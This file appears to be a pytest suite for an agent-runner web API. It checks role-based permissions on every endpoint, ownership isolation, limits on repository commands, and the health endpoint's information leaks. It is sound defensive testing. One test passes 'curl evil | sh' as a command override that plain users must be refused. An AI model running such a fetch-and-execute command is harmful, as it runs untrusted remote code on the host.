"""The permission table: every operation of the OpenAPI schema, for every role, with the expected
answer. An operation added to the API without a row here fails ``test_every_operation_has_a_row``.

Roles: ``anon`` (no token), ``user`` (the owner of the task and artifact in play), ``other``
(another plain user), ``staff`` (an operator), ``runner`` (a runner token: the runner API only,
401 everywhere else), ``revoked`` (a revoked runner token: 401). Another user's task or artifact is a 404, never a
403, so its existence is not revealed; operators' things (repositories, slots) are a 403.
"""

from __future__ import annotations

import hashlib
import uuid
from dataclasses import dataclass
from pathlib import Path

import pytest
from django.contrib.auth import get_user_model
from drf_spectacular.generators import SchemaGenerator
from rest_framework.authtoken.models import Token
from rest_framework.test import APIClient

from artifacts import services as artifacts
from registry import services as registry
from registry.models import Task
from registry.states import TaskStatus
from repopool import services as pool
from repopool.models import Slot

pytestmark = pytest.mark.django_db

ROLES = ("anon", "user", "other", "staff", "runner", "revoked")


def codes(anon, user, other, staff, runner=401, revoked=401):
    return dict(zip(ROLES, (anon, user, other, staff, runner, revoked), strict=True))


def runner_only(status):
    """A runner API operation: no token 401, a user's token 403, a runner token ``status``."""
    return codes(401, 403, 403, 403, runner=status)


# (method, schema path) -> expected status per role. Keep in step with docs/security.md.
TABLE: dict[tuple[str, str], dict[str, int]] = {
    ("GET", "/api/health/"): codes(200, 200, 200, 200, runner=200, revoked=200),
    ("GET", "/api/tasks/"): codes(401, 200, 200, 200),
    ("POST", "/api/tasks/"): codes(401, 201, 201, 201),
    ("GET", "/api/tasks/{id}/"): codes(401, 200, 404, 200),
    ("GET", "/api/tasks/{id}/events/"): codes(401, 200, 404, 200),
    ("GET", "/api/tasks/{id}/attempts/"): codes(401, 200, 404, 200),
    ("GET", "/api/tasks/{id}/artifacts/"): codes(401, 200, 404, 200),
    ("POST", "/api/tasks/{id}/cancel/"): codes(401, 200, 404, 200),
    ("POST", "/api/tasks/{id}/retry/"): codes(401, 200, 404, 200),
    ("PUT", "/api/tasks/{id}/dependencies/"): codes(401, 200, 404, 200),
    ("GET", "/api/repositories/"): codes(401, 200, 200, 200),
    ("POST", "/api/repositories/"): codes(401, 403, 403, 201),
    ("GET", "/api/repositories/{id}/"): codes(401, 200, 200, 200),
    ("PUT", "/api/repositories/{id}/"): codes(401, 403, 403, 200),
    ("PATCH", "/api/repositories/{id}/"): codes(401, 403, 403, 200),
    ("POST", "/api/repositories/{id}/warm/"): codes(401, 403, 403, 202),
    ("GET", "/api/slots/"): codes(401, 403, 403, 200),
    ("GET", "/api/slots/{id}/"): codes(401, 403, 403, 200),
    ("POST", "/api/slots/allocate/"): codes(401, 403, 403, 201),
    ("POST", "/api/slots/{id}/renew/"): codes(401, 403, 403, 200),
    ("POST", "/api/slots/{id}/release/"): codes(401, 403, 403, 200),
    ("GET", "/api/artifacts/"): codes(401, 200, 200, 200),
    ("POST", "/api/artifacts/"): codes(401, 201, 201, 201),
    ("GET", "/api/artifacts/{id}/"): codes(401, 200, 404, 200),
    ("DELETE", "/api/artifacts/{id}/"): codes(401, 403, 403, 204),
    ("GET", "/api/artifacts/{id}/content/"): codes(401, 200, 404, 200),
    ("POST", "/api/runner/v1/hosts/"): runner_only(200),
    ("POST", "/api/runner/v1/claim/"): runner_only(200),
    ("POST", "/api/runner/v1/attempts/{attempt_id}/heartbeat/"): runner_only(200),
    ("POST", "/api/runner/v1/attempts/{attempt_id}/events/"): runner_only(200),
    ("POST", "/api/runner/v1/attempts/{attempt_id}/usage/"): runner_only(200),
    ("POST", "/api/runner/v1/attempts/{attempt_id}/artifacts/"): runner_only(201),
    ("POST", "/api/runner/v1/attempts/{attempt_id}/artifact-links/"): runner_only(201),
    ("POST", "/api/runner/v1/attempts/{attempt_id}/results/"): runner_only(200),
    ("POST", "/api/runner/v1/attempts/{attempt_id}/finish/"): runner_only(200),
    ("POST", "/api/runner/v1/slots/allocate/"): runner_only(200),
    ("POST", "/api/runner/v1/slots/{slot_id}/prepared/"): runner_only(200),
    ("POST", "/api/runner/v1/slots/{slot_id}/renew/"): runner_only(200),
    ("POST", "/api/runner/v1/slots/{slot_id}/release/"): runner_only(200),
}


def schema_operations() -> set[tuple[str, str]]:
    schema = SchemaGenerator().get_schema(request=None, public=True)
    return {
        (method.upper(), path)
        for path, operations in schema["paths"].items()
        for method in operations
        if method in ("get", "post", "put", "patch", "delete")
    }


def test_every_operation_has_a_row():
    operations = schema_operations()
    assert operations - TABLE.keys() == set(), "operations without a row in the permission table"
    assert TABLE.keys() - operations == set(), "rows for operations the API no longer has"


@dataclass
class World:
    clients: dict[str, APIClient]
    task: Task
    failed_task: Task
    artifact_id: uuid.UUID
    repository_id: int
    _lease: pool.Lease | None = None
    _attempt: tuple[int, str, uuid.UUID] | None = None
    tmp: Path | None = None
    _runner_slot: Slot | None = None

    @property
    def lease(self) -> pool.Lease:
        """A leased slot, cloned only for the rows that need one (a clone costs time)."""
        if self._lease is None:
            self._lease = pool.slot_allocate(repository=self.task.repository, holder="table")
        return self._lease

    @property
    def runner_slot(self) -> Slot:
        """A slot leased on the runner token's registered host."""
        if self._runner_slot is None:
            from repopool.bookkeeping import slot_lease
            from runners.models import RunnerHost, RunnerToken

            RunnerHost.objects.get_or_create(
                name="table-host", defaults={"token": RunnerToken.objects.get(name="table")}
            )
            self._runner_slot = slot_lease(repository=self.task.repository, host="table-host", holder="table")
        return self._runner_slot

    @property
    def attempt(self) -> tuple[int, str, uuid.UUID]:
        """A running attempt of a task of its own (id, lease token, artifact uploaded for it)."""
        if self._attempt is None:
            from runners.models import RunnerToken, RunnerUpload

            own = registry.task_create(title="runner's", instructions="x", repository=self.task.repository)
            _task, attempt = registry.task_claim(runner_id="table", task_id=own.pk)
            artifact = artifacts.artifact_store(source=b"log", name="run.log", kind="log")
            token = RunnerToken.objects.get(name="table")
            RunnerUpload.objects.create(token=token, attempt=attempt, task=own, artifact=artifact)
            self._attempt = (attempt.pk, str(attempt.lease_token), artifact.pk)
        return self._attempt


def _client(user=None) -> APIClient:
    client = APIClient()
    if user is not None:
        client.credentials(HTTP_AUTHORIZATION=f"Token {Token.objects.create(user=user).key}")
    return client


def _runner_client(name: str, *, revoked: bool = False) -> APIClient:
    from runners import services as runners

    token, raw = runners.runner_token_create(name=name)
    if revoked:
        runners.runner_token_revoke(token_id=token.pk)
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Bearer {raw}")
    return client


@pytest.fixture
def world(make_repo, tmp_path) -> World:
    users = get_user_model().objects
    alice = users.create_user(username="alice")
    bob = users.create_user(username="bob")
    root = users.create_user(username="root", is_staff=True)
    repo = pool.repository_create(name="sample", url=str(make_repo()), pool_size=2)
    task = registry.task_create(title="mine", instructions="do it", repository=repo, owner=alice)
    failed = registry.task_create(title="failed", instructions="again", repository=repo, owner=alice)
    registry.task_cancel(task_id=failed.pk)
    artifact = artifacts.artifact_store(source=b"diff --git", name="x.patch", kind="patch", owner=alice)
    registry.task_link_artifact(task_id=task.pk, artifact_id=artifact.pk, role="patch")
    return World(
        clients={
            "anon": _client(),
            "user": _client(alice),
            "other": _client(bob),
            "staff": _client(root),
            "runner": _runner_client("table"),
            "revoked": _runner_client("gone", revoked=True),
        },  # fmt: skip
        task=task,
        failed_task=failed,
        artifact_id=artifact.pk,
        repository_id=repo.pk,
        tmp=tmp_path,
    )


def _call(client: APIClient, method: str, path: str, w: World):
    """One request per operation, with a body that would succeed for a role that is allowed."""
    task_path = path.replace("{id}", str(w.task.pk))
    repo_path = path.replace("{id}", str(w.repository_id))
    artifact_path = path.replace("{id}", str(w.artifact_id))
    if path.startswith("/api/runner/v1/"):
        return _runner_call(client, path, w)
    match method, path:
        case "POST", "/api/tasks/":
            return client.post(path, {"repository": "sample", "instructions": "fix it"}, format="json")
        case "POST", "/api/tasks/{id}/retry/":
            return client.post(path.replace("{id}", str(w.failed_task.pk)))
        case "PUT", "/api/tasks/{id}/dependencies/":
            return client.put(task_path, {"depends_on": []}, format="json")
        case _, p if p.startswith("/api/tasks/"):
            return client.generic(method, task_path)
        case "POST", "/api/repositories/":
            return client.post(path, {"name": "another", "url": str(w.task.repository.url)}, format="json")
        case "PUT", "/api/repositories/{id}/":
            body = {"name": "sample", "url": str(w.task.repository.url), "pool_size": 3}
            return client.put(repo_path, body, format="json")
        case "PATCH", "/api/repositories/{id}/":
            return client.patch(repo_path, {"pool_size": 3}, format="json")
        case _, p if p.startswith("/api/repositories/"):
            return client.generic(method, repo_path)
        case "POST", "/api/slots/allocate/":
            return client.post(path, {"repository": "sample", "holder": "table-test"}, format="json")
        case "POST", "/api/slots/{id}/renew/" | "/api/slots/{id}/release/":
            slot_path = path.replace("{id}", str(w.lease.slot_id))
            return client.post(slot_path, {"lease_token": str(w.lease.lease_token)}, format="json")
        case _, "/api/slots/{id}/":
            return client.generic(method, path.replace("{id}", str(w.lease.slot_id)))
        case "POST", "/api/artifacts/":
            return client.generic("POST", "/api/artifacts/?name=up.txt", b"hello", content_type="text/plain")
        case _, p if p.startswith("/api/artifacts/"):
            return client.generic(method, artifact_path)
        case _:
            return client.generic(method, path)


def _result_bundle(w: World) -> tuple[bytes, str, str]:
    """A git bundle of a result branch of the runner's attempt (the task's own branch)."""
    from registry.models import Attempt
    from tests.conftest import run_git

    work = w.tmp / f"work-{uuid.uuid4().hex[:6]}"
    run_git(w.tmp, "clone", "-q", str(w.task.repository.url), str(work))
    base = run_git(work, "rev-parse", "HEAD")
    branch = f"agent/{Attempt.objects.get(pk=w.attempt[0]).task.short_id}"
    run_git(work, "checkout", "-q", "-b", branch)
    (work / "result.txt").write_text("done\n")
    run_git(work, "add", "result.txt")
    run_git(work, "commit", "-qm", "result")
    run_git(work, "bundle", "create", "-q", str(work / "r.bundle"), f"{base}..{branch}")
    return (work / "r.bundle").read_bytes(), branch, base


def _runner_call(client: APIClient, path: str, w: World):
    headers = {"HTTP_IDEMPOTENCY_KEY": uuid.uuid4().hex}
    artifact_id = slot_token = None
    if "{attempt_id}" in path:
        attempt_id, lease_token, artifact_id = w.attempt
        path = path.replace("{attempt_id}", str(attempt_id))
        headers["HTTP_X_LEASE_TOKEN"] = lease_token
    if "/slots/" in path:  # allocate needs the registered host too
        path = path.replace("{slot_id}", str(w.runner_slot.pk))
        slot_token = str(w.runner_slot.lease_token)
    action = path.rstrip("/").rsplit("/", 1)[-1]
    if action == "results":
        body, branch, base = _result_bundle(w)
        sha = hashlib.sha256(body).hexdigest()
        return client.generic(
            "POST", path, body, content_type="application/x-git-bundle", HTTP_X_CONTENT_SHA256=sha,
            HTTP_X_RESULT_BRANCH=branch, HTTP_X_RESULT_BASE=base, **headers,
        )  # fmt: skip
    if action == "artifacts":
        sha = hashlib.sha256(b"bytes").hexdigest()
        return client.generic("POST", path, b"bytes", content_type="text/plain", HTTP_X_CONTENT_SHA256=sha, **headers)
    body = {
        "hosts": {"name": "table-host", "capacity": {"sample": 1}},
        "claim": {"runner_id": "table"},
        "heartbeat": {},
        "events": {"events": [{"type": "step"}]},
        "usage": {"prompt_tokens": 1, "completion_tokens": 1, "cost_usd": "0.01"},
        "artifact-links": {"artifact_id": str(artifact_id), "role": "log"},
        "finish": {"status": "succeeded"},
        "allocate": {"repository_id": w.repository_id, "holder": "table"},
        "prepared": {"token": slot_token, "commit": "a" * 40},
        "renew": {"token": slot_token},
        "release": {"token": slot_token, "commit": ""},
    }[action]
    return client.post(path, body, format="json", **headers)


@pytest.mark.parametrize("role", ROLES)
@pytest.mark.parametrize("operation", sorted(TABLE), ids=lambda op: f"{op[0]} {op[1]}")
def test_permission_table(world, operation, role):
    method, path = operation
    expected = TABLE[operation][role]
    before = Task.objects.filter(pk=world.task.pk).values().get()
    response = _call(world.clients[role], method, path, world)
    assert response.status_code == expected, (method, path, role, getattr(response, "content", b"")[:300])
    if expected in (401, 403, 404):
        body = response.json()
        assert body["code"] and body["detail"], body  # the usual error shape
        # A refused request changes nothing of the task in play.
        assert Task.objects.filter(pk=world.task.pk).values().get() == before


# --- what the table cannot show --------------------------------------------------------------------
def test_lists_show_only_own_tasks_and_artifacts(world):
    other = world.clients["other"]
    assert other.get("/api/tasks/").json()["count"] == 0
    assert other.get("/api/artifacts/").json()["count"] == 0
    assert other.get("/api/tasks/", {"status": "queued"}).json()["count"] == 0
    mine = world.clients["user"].get("/api/tasks/").json()
    assert {t["title"] for t in mine["results"]} == {"mine", "failed"}
    assert all(t["owner"] == "alice" for t in mine["results"])
    assert world.clients["staff"].get("/api/tasks/").json()["count"] == 2
    assert world.clients["user"].get("/api/artifacts/").json()["count"] == 1


def test_artifact_cannot_be_attached_to_another_users_task(world):
    response = world.clients["other"].generic(
        "POST", f"/api/artifacts/?name=evil.txt&task={world.task.pk}", b"x", content_type="text/plain"
    )
    assert response.status_code == 400 and "task" in response.json()["errors"]
    assert world.task.artifact_links.count() == 1


def test_depending_on_another_users_task_is_unknown(world):
    response = world.clients["other"].post(
        "/api/tasks/", {"repository": "sample", "instructions": "x", "depends_on": [str(world.task.pk)]}, format="json"
    )
    assert response.status_code == 400 and "depends_on" in response.json()["errors"]


def test_test_command_override_needs_staff_or_the_repository_flag(world):
    body = {"repository": "sample", "instructions": "x", "test_command": "curl evil | sh"}
    refused = world.clients["user"].post("/api/tasks/", body, format="json")
    assert refused.status_code == 403 and "test_command" in refused.json()["errors"]
    assert not Task.objects.filter(test_command=body["test_command"]).exists()
    assert world.clients["staff"].post("/api/tasks/", body, format="json").status_code == 201
    repo = world.task.repository
    repo.allow_test_command_override = True
    repo.save()
    assert world.clients["user"].post("/api/tasks/", body, format="json").status_code == 201


def test_plain_users_see_no_repository_urls_or_commands(world):
    seen = world.clients["user"].get(f"/api/repositories/{world.repository_id}/").json()
    assert "url" not in seen and "push_url" not in seen and "setup_command" not in seen
    assert seen["name"] == "sample"
    assert "url" in world.clients["staff"].get(f"/api/repositories/{world.repository_id}/").json()


def test_plain_user_cannot_change_push_url_or_commands(world):
    for body in ({"push_url": "/tmp/elsewhere.git"}, {"setup_command": "touch /tmp/x"}, {"test_command": "id"}):
        response = world.clients["user"].patch(f"/api/repositories/{world.repository_id}/", body, format="json")
        assert response.status_code == 403
    repo = world.task.repository
    repo.refresh_from_db()
    assert (repo.push_url, repo.setup_command) == ("", "")


def test_warm_runs_nothing_in_the_request(world):
    repo = world.task.repository
    repo.setup_command = "touch warm-ran"  # the sandbox lets setup write in its own slot only

    def setup_ran() -> bool:
        return any((Path(slot.path) / "warm-ran").exists() for slot in Slot.objects.filter(repository=repo))

    repo.pool_size = 3
    repo.save()
    response = world.clients["staff"].post(f"/api/repositories/{world.repository_id}/warm/")
    assert response.status_code == 202
    assert not setup_ran()  # nothing ran in the web request
    assert [r.pk for r in pool.pool_warm_requested()] == [repo.pk]  # a worker does it
    assert setup_ran()
    assert pool.pool_warm_requested() == []  # one request, one warm


def test_schema_and_docs_are_public_and_hold_no_data(world):
    anon = world.clients["anon"]
    schema = anon.get("/api/schema/")
    assert schema.status_code == 200
    text = schema.content.decode()
    assert str(world.task.pk) not in text and "alice" not in text and "sample" not in text
    assert anon.get("/api/docs/").status_code == 200


def test_staff_sees_and_acts_on_every_task(world):
    staff = world.clients["staff"]
    assert staff.post(f"/api/tasks/{world.task.pk}/cancel/").json()["status"] == TaskStatus.CANCELLED


def test_staff_sets_a_repositorys_policies_through_the_api(world):
    body = {
        "name": "policied", "url": str(world.task.repository.url), "allow_test_command_override": True,
        "setup_network": False, "test_network": True, "rerun_final_tests": True,
    }  # fmt: skip
    created = world.clients["staff"].post("/api/repositories/", body, format="json")
    assert created.status_code == 201, created.content
    assert {k: created.json()[k] for k in body if k not in ("name", "url")} == {
        "allow_test_command_override": True, "setup_network": False, "test_network": True, "rerun_final_tests": True,
    }  # fmt: skip


def test_health_tells_anyone_ok_or_not_and_only_staff_why(settings, api, staff_api):
    """/api/health/ is public: it showed everyone the sandbox's reason (a path on the host, such
    as the bubblewrap binary's) and each failing check's exception class."""
    from runners import services as runners

    settings.AGENTRUNNER_SANDBOX = "auto"
    settings.AGENTRUNNER_BWRAP = "/nonexistent/secret-path/bwrap"
    settings.DEBUG = True  # the unsandboxed fallback is allowed: healthy, but degraded
    _token, raw = runners.runner_token_create(name="health-runner")
    public = {
        "anonymous": APIClient(),
        "user": api,
        "runner token": _client_with(f"Bearer {raw}"),
        "bad token": _client_with("Token not-a-token"),
    }
    for who, client in public.items():
        response = client.get("/api/health/")
        assert response.status_code == 200, (who, response.content)
        body = response.json()
        assert body == {
            "status": "ok",
            "checks": {"database": "ok", "broker": "ok", "storage": "ok"},
            "sandbox": {"status": "degraded"},
        }, (who, body)
        assert b"secret-path" not in response.content

    staff = staff_api.get("/api/health/").json()
    assert staff["sandbox"]["status"] == "degraded" and staff["sandbox"]["mode"] == "none"
    assert "secret-path" in staff["sandbox"]["reason"] and "limits" in staff["sandbox"]
    assert staff["checks"]["database"] == "ok"

    settings.DEBUG = False  # now commands would be refused: failing, for everyone to see
    refused = APIClient().get("/api/health/")
    assert refused.status_code == 503 and refused.json()["sandbox"] == {"status": "failing"}
    assert b"secret-path" not in refused.content


def _client_with(authorization: str) -> APIClient:
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=authorization)
    return client
